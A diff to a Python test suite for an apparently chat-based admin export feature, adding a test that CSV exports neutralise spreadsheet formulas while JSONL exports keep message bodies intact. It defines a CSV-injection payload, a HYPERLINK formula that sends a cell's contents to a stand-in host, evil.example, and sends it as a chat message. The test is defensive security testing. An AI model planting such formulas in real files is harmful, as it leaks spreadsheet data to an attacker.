@@ -13,6 +13,8 @@ dies is shown as failed, never as running, and a job stuck on a locked
 table stalls neither chat nor the console.
 """
 
+import csv
+import io
 import json
 import os
 import signal
@@ -35,6 +37,7 @@ conclave_admin_export_max 4;
 """
 
 FORMATS = ["actiance", "csv", "eml", "jsonl"]
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
 def msg(to, body, id):
@@ -78,12 +81,16 @@ def chat(appliance):
     b.expect(r"id='e29'")
     b.send(msg("alice@example.com", "reply in kind 会议 😀", "r1"))
     a.expect(r"id='r1'")
+    # a body a spreadsheet would run as a formula (OWASP CSV injection)
+    b.send(msg("alice@example.com", FORMULA.replace("&", "&amp;")
+               .replace('"', "&quot;"), "f1"))
+    a.expect(r"id='f1'")
     deadline = time.monotonic() + 30
     while time.monotonic() < deadline:
         n = appliance.mariadb.scalar(
             "SELECT COUNT(*) FROM audit_record WHERE event = 'message'",
             database=appliance.mariadb.database)
-        if int(n) >= 31:
+        if int(n) >= 32:
             break
         time.sleep(0.2)
     else:
@@ -148,7 +155,7 @@ def test_erin_exports_downloads_and_the_zip_verifies(appliance, chat, erin,
     assert job["format"] == "actiance"
     assert job["user"] == "erin@example.com"
     assert job["params"]["user"] == "alice@example.com"
-    assert job["done"] == job["total"] and job["total"] >= 31
+    assert job["done"] == job["total"] and job["total"] >= 32
     assert job["size"] > 0 and job["file"].endswith(".zip")
     assert job["error"] is None and job["finished"] >= job["created"]
 
@@ -212,6 +219,41 @@ def test_a_time_window_and_a_room_filter(appliance, chat, erin):
                                         "until": now_ms})
     assert status == 202, doc
     assert wait_job(erin, doc["id"])["state"] == "done"
+
+
+def strings(v):
+    """Every string in a JSON value, nested JSON text decoded too."""
+    if isinstance(v, dict):
+        return [s for x in v.values() for s in strings(x)]
+    if isinstance(v, list):
+        return [s for x in v for s in strings(x)]
+    if isinstance(v, str):
+        try:
+            inner = json.loads(v)
+        except ValueError:
+            return [v]
+        return [v] + (strings(inner) if isinstance(inner, (dict, list))
+                      else [])
+    return []
+
+
+def test_csv_neutralises_formulas_and_jsonl_keeps_the_bytes(appliance, chat,
+                                                           erin, tmp_path):
+    status, doc = erin.post("exports", {"format": "csv", "user": "bob"})
+    assert status == 202, doc
+    assert wait_job(erin, doc["id"])["state"] == "done"
+    z = str(tmp_path / "f.zip")
+    download(erin, doc["id"], z)
+    with zipfile.ZipFile(z) as zf:
+        rows = list(csv.reader(io.StringIO(zf.read("posts.csv").decode(),
+                                           newline="")))
+        raw = [json.loads(line) for line in
+               zf.read("records.jsonl").decode().splitlines()]
+    col = rows[0].index("Post Message")
+    bodies = [r[col] for r in rows[1:]]
+    assert "'" + FORMULA in bodies, bodies
+    assert not [b for b in bodies if b[:1] in ("=", "+", "-", "@")]
+    assert FORMULA in strings(raw), "records.jsonl lost the exact body"
 
 
 # -- refusals -------------------------------------------------------------
